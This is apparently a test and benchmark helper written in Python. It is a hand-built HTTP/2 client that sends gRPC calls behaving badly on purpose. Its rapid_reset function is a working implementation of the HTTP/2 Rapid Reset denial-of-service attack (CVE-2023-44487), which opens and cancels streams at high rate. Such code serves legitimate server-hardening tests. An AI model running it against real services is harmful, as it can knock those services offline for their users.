"""A raw HTTP/2 client for gRPC calls, for tests and benchmarks that behave
as no well-mannered client would: a receive window of zero, streams opened
past the server's limit, streams reset as soon as they are opened.

Frames are built by hand (RFC 9113); headers are HPACK literals without
indexing or Huffman coding, which every server must accept. Responses are
read as frames and not decoded beyond their type, flags, stream and, for
SETTINGS and RST_STREAM, their values.
"""

import socket
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
REFUSED_STREAM = 0x7
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name, no Huffman."""
    def string(s):
        assert len(s) < 127
        return bytes([len(s)]) + s
    return b"\x00" + string(name) + string(value)


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class Connection:
    """One HTTP/2 connection to `address` ("host:port"), plaintext."""

    def __init__(self, address, initial_window=None):
        host, port = address.rsplit(":", 1)
        self.address = address
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        settings = b""
        if initial_window is not None:
            settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, initial_window)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.buffer = b""
        self.server_settings = {}

    def handshake(self, seconds=10):
        """Reads until the server's SETTINGS came and were acknowledged (a
        server holds a peer to its settings once the peer acknowledged
        them), then waits for the server to acknowledge ours."""
        have_settings = have_ack = False
        for kind, flags, _, _ in self.frames(seconds):
            if kind == SETTINGS:
                if flags & 0x1:
                    have_ack = True
                else:
                    have_settings = True
            if have_settings and have_ack:
                return
        raise TimeoutError("no SETTINGS exchange with %s" % self.address)

    def open(self, stream, path, message, metadata=()):
        """Opens `stream` with a unary request message (END_STREAM after it)."""
        headers = b"".join([
            literal(b":method", b"POST"), literal(b":scheme", b"http"),
            literal(b":path", path), literal(b":authority", self.address.encode()),
            literal(b"content-type", b"application/grpc"), literal(b"te", b"trailers")] +
            [literal(k, v) for k, v in metadata])
        self.sock.sendall(frame(HEADERS, 0x4, stream, headers) +
                          frame(DATA, 0x1, stream, grpc_message(message)))

    def reset(self, stream, code=0x8):  # CANCEL
        self.sock.sendall(frame(RST_STREAM, 0, stream, struct.pack(">I", code)))

    def frames(self, seconds):
        """Yields (type, flags, stream, payload) for `seconds`, acknowledging
        the server's SETTINGS and PINGs, until the connection closes."""
        end = time.time() + seconds
        while time.time() < end:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                if kind == SETTINGS and not flags & 0x1:
                    for i in range(0, len(payload), 6):
                        key, value = struct.unpack(">HI", payload[i:i + 6])
                        self.server_settings[key] = value
                    self.sock.sendall(frame(SETTINGS, 0x1, 0, b""))
                elif kind == PING and not flags & 0x1:
                    self.sock.sendall(frame(PING, 0x1, 0, payload))
                yield kind, flags, stream, payload
            self.sock.settimeout(max(0.01, min(0.5, end - time.time())))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            if not data:
                return
            self.buffer += data

    def close(self):
        self.sock.close()


def rapid_reset(address, path, message, streams, progress=None):
    """HTTP/2 rapid reset (CVE-2023-44487): opens `streams` calls of `path`
    over one connection, resetting each at once, while reading whatever the
    server sends. Calls progress() every 2,000 streams; returns how many were
    sent before the server closed the connection."""
    conn = Connection(address)
    drain = threading.Thread(target=lambda: sum(1 for _ in conn.frames(600)), daemon=True)
    drain.start()
    sent = 0
    try:
        for i in range(streams):
            stream = 1 + 2 * i
            conn.open(stream, path, message)
            conn.reset(stream)
            sent += 1
            if progress and i % 2000 == 0:
                progress()
    except OSError:
        pass
    conn.close()
    return sent
